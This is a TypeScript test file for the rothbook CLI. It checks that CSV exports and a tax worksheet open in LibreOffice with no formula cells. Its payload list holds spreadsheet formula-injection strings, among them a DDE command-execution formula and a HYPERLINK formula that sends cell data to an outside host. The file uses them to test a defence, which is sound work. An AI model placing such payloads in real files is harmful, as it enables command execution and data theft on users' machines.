// Text that would be a formula in a spreadsheet is not one in what we write: opened in LibreOffice, no
// cell of an export holds a formula, and amounts are numbers.
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { run } from "../../src/cli/run.ts";
import { testIo } from "../support/test-io.ts";
import { needs } from "../support/tools.ts";

const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  " =1+1",
  "\uff1d1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com/?"&A1;"look")',
  "''=1+1",
  '"=1+1',
];

const folder = mkdtempSync(join(tmpdir(), "rothbook-spreadsheet-"));
afterAll(() => rmSync(folder, { recursive: true }));

async function rothbook(...words: string[]): Promise<void> {
  const env = {
    ROTHBOOK_LEDGER: join(folder, "rothbook.db"),
    XDG_STATE_HOME: join(folder, "state"),
  };
  const world = testIo({ cwd: folder, env });
  const exit = await run(words, world.io);
  expect(exit, world.stderr()).toBe(0);
}

/** The cells of a CSV file as LibreOffice has them: formulas, and what else there is as text. */
function opened(name: string): { formulas: string[]; text: string } {
  const profile = `-env:UserInstallation=file://${join(folder, "profile")}`;
  const words = ["--headless", profile, "--infilter=CSV:44,34,76,1", "--convert-to", "fods"];
  const ended = spawnSync("soffice", [...words, "--outdir", folder, join(folder, name)], {
    encoding: "utf8",
  });
  expect(ended.status, ended.stderr).toBe(0);
  const text = readFileSync(join(folder, name.replace(/\.csv$/, ".fods")), "utf8");
  return { formulas: [...text.matchAll(/table:formula="[^"]*"/g)].map(([found]) => found), text };
}

describe("in LibreOffice", () => {
  it("no cell of an export or a worksheet is a formula", async (context) => {
    needs(context, "soffice");
    await rothbook("init", "--person", "alex", "--name", PAYLOADS[0] ?? "");
    const events = PAYLOADS.map((note, index) => ({
      ...{ kind: "ira_value", person: "alex", tax_year: 2010 + index, amount: "12.50", note },
    }));
    writeFileSync(
      join(folder, "in.jsonl"),
      events.map((each) => `${JSON.stringify(each)}\n`).join(""),
    );
    await rothbook("import", join(folder, "in.jsonl"));
    await rothbook("export", "--format", "csv", "--output", "events.csv");
    await rothbook("events", "--format", "csv", "--output", "list.csv");
    await rothbook(
      "worksheet",
      "form-8606",
      "--tax-year",
      "2016",
      "--format",
      "csv",
      "--output",
      "form.csv",
    );
    for (const name of ["events.csv", "list.csv", "form.csv"])
      expect(opened(name).formulas, name).toEqual([]);
    const { text } = opened("events.csv");
    expect(text).toContain("cmd|");
    expect(text).toContain('office:value="12.5"');
  }, 180_000);

  it("a cell that was not made safe would be one", (context) => {
    needs(context, "soffice");
    writeFileSync(join(folder, "raw.csv"), "note\n=1+1\n");
    expect(opened("raw.csv").formulas).toHaveLength(1);
  }, 120_000);
});
